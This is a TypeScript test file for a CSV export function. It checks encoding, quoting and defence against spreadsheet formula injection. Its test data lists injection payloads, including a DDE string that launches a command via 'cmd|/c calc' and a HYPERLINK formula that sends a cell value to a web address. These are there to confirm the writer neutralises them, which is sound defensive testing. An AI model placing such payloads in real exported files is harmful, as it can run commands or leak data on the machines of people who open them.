import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { toCsv } from '#exports/figures/csv.ts';
import { FIXED } from '../domain/fixed-seed.ts';
import { readCsv } from './read-csv.ts';

const MARK = '\uFEFF';
const cellOf = (text: string) => readCsv(toCsv({ columns: ['a'], rows: [[text]] }).slice(1))[1]![0]!;

describe('files of data', () => {
  test('begin with the mark of UTF-8, have a row of heads, and end each line as the standard says', () => {
    expect(toCsv({ columns: ['Órgano', 'Número'], rows: [['Reunión Técnica', 3]] })).toBe(`${MARK}Órgano,Número\r\nReunión Técnica,3\r\n`);
  });

  test.each([
    ['a comma', 'niñas, niños', '"niñas, niños"'],
    ['quotation marks', 'dijo "no"', '"dijo ""no"""'],
    ['a line end', 'uno\ndos', '"uno\ndos"'],
  ])('%s is put between quotation marks', (_, text, written) => {
    expect(toCsv({ columns: ['a'], rows: [[text]] })).toBe(`${MARK}a\r\n${written}\r\n`);
  });

  test.each([
    '=HYPERLINK("https://example.org/?x="&A1,"ver")',
    '+1+cmd|/c calc!A0',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '   =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '\u0000=1+1',
  ])('a title that a spreadsheet would run is made text: %j', (title) => {
    expect(cellOf(title).startsWith("'")).toBe(true);
    expect(readCsv(toCsv({ columns: [title], rows: [] }).slice(1))[0]![0]!.startsWith("'")).toBe(true);
  });

  test('numbers stay numbers, also below zero, and honest words stay as they are', () => {
    expect(toCsv({ columns: ['n'], rows: [[-3], [0], [2.5]] })).toBe(`${MARK}n\r\n-3\r\n0\r\n2.5\r\n`);
    for (const text of ['Co-presidencia', '¿Qué?', '«=»', "'ya'", '1 = 1', '']) expect(cellOf(text)).toBe(text);
  });

  test('whatever the words are, every cell comes back, and none begins as a formula', () => {
    const word = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n", ;a\u0000＝') }));
    fc.assert(
      fc.property(fc.array(fc.array(word, { minLength: 2, maxLength: 2 }), { maxLength: 6 }), (rows) => {
        const written = toCsv({ columns: ['a', 'b'], rows });
        const read = readCsv(written.slice(1));
        expect(read).toHaveLength(rows.length + 1);
        rows.forEach((row, index) => {
          row.forEach((text, column) => {
            const cell = read[index + 1]![column]!;
            // eslint-disable-next-line no-control-regex -- the signs that the writer leaves out
            const plain = text.replaceAll(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '');
            expect([plain, `'${plain}`]).toContain(cell);
            expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
          });
        });
      }),
      FIXED,
    );
  });
});
